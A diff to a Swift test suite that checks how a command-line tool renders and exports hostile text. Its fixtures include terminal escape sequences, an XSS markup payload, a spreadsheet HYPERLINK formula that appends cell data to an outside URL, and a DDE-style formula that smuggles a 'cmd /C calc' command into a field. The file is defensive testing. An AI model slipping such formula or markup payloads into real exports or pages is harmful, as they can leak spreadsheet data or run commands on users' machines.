@@ -27,7 +27,7 @@ struct HostileTextTests {
 
   /// Each text is read through those renderers for which it differs from plain words: every
   /// renderer for characters that a terminal or a browser obeys, every width for long and wide
-  /// letters. A formula matters only in exports.
+  /// letters. A formula matters only in exports, so no page is read for it.
   static let texts = [
     Text(
       "escape sequences", "\u{1B}[2J\u{1B}]0;owned\u{7}\u{9B}31m\u{8}\u{8}\u{7F}Red",
@@ -41,9 +41,9 @@ struct HostileTextTests {
     Text(
       "markup", #""><script>alert(1)</script><img src=x onerror=alert(1)>'&amp;</title>"#,
       formats: ["json", "html"]),
-    Text("a formula", #"=HYPERLINK("http://example.org/?"&A1,"ok")"#),
-    Text("another formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
-    Text("a minus and a plus", "-1+1|+2"),
+    Text("a formula", #"=HYPERLINK("http://example.org/?"&A1,"ok")"#, widths: []),
+    Text("another formula", "@SUM(1+1)*cmd|' /C calc'!A0", widths: []),
+    Text("a minus and a plus", "-1+1|+2", widths: []),
     Text(
       "stacked marks", "Z" + String(repeating: "\u{336}\u{489}\u{31F}", count: 60) + "algo",
       widths: [40, 80]),
@@ -71,6 +71,8 @@ struct HostileTextTests {
       ["--keep-going"], input: writing.map { $0 + "\n" }.joined())
     #expect(written.code < 128)
     Inspection.ofTerminal(written.output + written.errors, "what was written")
+    let stored = try household.sql(".dump --data-only")
+    #expect(stored.components(separatedBy: Self.marker).count > 20)
     // One of the written lines created a profile and signed in with it, so the reading commands
     // name the athlete.
     let reader = ["--profile", "p1"]
